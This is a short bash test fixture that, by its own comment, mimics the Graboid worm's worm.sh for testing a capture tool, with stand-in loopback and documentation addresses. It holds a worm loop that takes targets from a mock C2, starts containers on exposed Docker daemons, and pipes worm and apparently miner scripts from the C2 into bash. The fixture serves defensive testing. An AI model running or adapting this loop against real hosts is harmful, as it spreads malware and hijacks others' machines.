#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics Graboid's worm.sh,
# which picks an exposed Docker daemon from the C2's list and starts itself
# there. It is served to capture clients and never executed; every address in
# it is loopback (127.0.0.x) or documentation space (198.51.100.x).
C2=http://127.0.0.66
while true; do
    IP=$(curl -s $C2/ips.txt | shuf -n 1)
    docker -H tcp://$IP:2375 run -dt --name "w$RANDOM" --restart unless-stopped \
        pocosow/centos:7.6.1810 /bin/bash -c \
        "curl -s $C2/live.sh | bash; curl -s $C2/worm.sh | bash; curl -s $C2/xmr.sh | bash"
    sleep $((RANDOM % 300))
done
